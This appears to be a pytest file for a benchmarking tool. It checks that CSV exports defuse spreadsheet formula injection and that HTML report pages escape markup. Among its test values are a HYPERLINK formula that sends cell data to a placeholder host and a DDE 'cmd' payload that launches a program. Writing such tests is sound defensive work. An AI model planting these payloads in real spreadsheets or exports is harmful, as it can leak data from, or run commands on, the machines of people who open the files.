"""A table that is opened in a spreadsheet runs nothing that a trace is called."""

import csv
import io
from pathlib import Path
from typing import Literal

import pandas as pd
import pytest
from support.commands import text
from support.fake_run import noisy_times, step_rows, write_trial
from support.page import report_page
from support.profiles import kineto

from analysis.load import load_run
from analysis.render.page import Badge, Callout, Page, Section, write_page
from analysis.render.result_tables import results_blocks
from analysis.render.tables import Column, Table, build, measured, plain, spread, texts, write_csv, write_frame
from analysis.wording import UNKNOWN, batch, inert
from bench.cli.main import run
from bench.plan.script import plan_script
from records.run import RunDirectory

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'


@pytest.mark.parametrize("cell", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert inert(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["-1", "+2.5e-3", "-inf", "void f<float>()", "a=b", "", -1.5, None, True])
def test_numbers_and_plain_names_stay(cell: object) -> None:
    assert inert(cell) is cell


def test_every_way_to_write_a_table_keeps_formulas_out(tmp_path: Path) -> None:
    write_csv(tmp_path / "a.csv", [{"name": FORMULA, FORMULA: -1}])
    frame = pd.DataFrame({"name": [FORMULA, None, "x"], "ns": [-1, 2, 3], FORMULA: [0.5, -0.5, None]})
    write_frame(tmp_path / "b.csv", frame.astype({"name": "category"}))
    for name in ("a.csv", "b.csv"):
        rows = list(csv.reader(io.StringIO((tmp_path / name).read_text(encoding="utf-8"))))
        assert rows[0][-1] == rows[1][0] == f"'{FORMULA}" and rows[1][1] == "-1"
    assert frame["name"][0] == FORMULA, "the frame itself is not changed"


def test_a_kernel_called_like_a_formula_is_none_in_the_tables_of_a_report(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    text = kineto()
    text = text.decode() if isinstance(text, bytes) else text
    path = tmp_path / "a.json"
    path.write_text(text.replace('"name": "', '"name": "=1+'))
    assert run(["analyze", str(path), "--csv", str(tmp_path / "csv")]) == 0
    cells = [
        cell
        for table in (tmp_path / "csv").glob("*.csv")
        for row in csv.reader(io.StringIO(table.read_text(encoding="utf-8")))
        for cell in row
    ]
    assert any(cell.startswith("'=1+") for cell in cells) and not any(cell.startswith("=") for cell in cells)


def test_a_zero_in_a_column_of_text_is_no_dash() -> None:
    table = build("t", [plain("seed", "seed")], [{"seed": 0}, {"seed": None}, {"seed": ""}])
    assert [row[0].text for row in table.rows] == ["0", UNKNOWN, UNKNOWN]


def test_rows_of_a_csv_file_have_full_precision_and_unknown_values_as_none() -> None:
    columns = [plain("run", "name"), measured("step ms", "step_time_ms"), spread("step_time_ms"),
               Column("batch", batch, batch)]  # fmt: skip
    row = {"name": "a", "step_time_ms": 1.23456789, "step_time_ms_low": 1.2, "step_time_ms_high": None,
           "micro_batch_size": 8, "grad_accum_steps": 2, "trial_id": "t-1"}  # fmt: skip
    table = build("steps", columns, [row])
    names = ("name", "step_time_ms", "step_time_ms_low", "step_time_ms_high")
    assert table.csv_rows() == [{name: row[name] for name in names} | {"batch": batch(row)}]
    assert table.trials == ("t-1",)
    assert texts("t", ["name", "ms"], [["a", UNKNOWN]]).csv_rows() == [{"name": "a", "ms": ""}]


@pytest.mark.parametrize("style", ["caution", "good", "plain"])
def test_badges_and_callouts_escape_their_words_and_name_their_style(
    tmp_path: Path, style: Literal["caution", "good", "plain"]
) -> None:
    blocks = [Badge("<b>1 & 2", style), Callout("Do <i>this", ["run `bertbench doctor`"])]
    path, *others = write_page(Page("p", "e", [Section("s", blocks)]), tmp_path)
    page = path.read_text(encoding="utf-8")
    assert not others and f'<p class="badge {style}">&lt;b&gt;1 &amp; 2</p>' in page
    callout = page[page.index('<div class="callout first">') :]
    assert "Do &lt;i&gt;this" in callout and "<code>bertbench doctor</code>" in callout


@pytest.mark.parametrize("sizes", [("8", "16"), ("8", "8")])
def test_scripts_of_one_name_are_distinguished_by_their_arguments(sizes: tuple[str, str], tmp_path: Path) -> None:
    folder = RunDirectory(tmp_path)
    for number, size in enumerate(sizes):
        command = ("python", "train.py", "--batch", size, "\x1b[31m<b>", "x" * 80)
        trial = plan_script(folder, command, "train.py")
        write_trial(folder, trial, {0: step_rows(noisy_times(10.0, 30, number), 8)})
    table = next(
        block for block in results_blocks([trial.row for trial in load_run(folder)]) if isinstance(block, Table)
    )
    assert ("arguments" in table.headings) == (sizes[0] != sizes[1])
    if sizes[0] != sizes[1]:
        cells = [row[table.headings.index("arguments")] for row in table.rows]
        assert {cell.text[:11].split()[1] for cell in cells} == {"8", "16"}
        assert all(len(cell.text) == 60 and cell.title.startswith("python train.py") for cell in cells)
        shown = text([table])
        assert "--batch 16" in shown and "\x1b" not in shown
        assert "<b>" not in report_page(folder).read_text(encoding="utf-8")
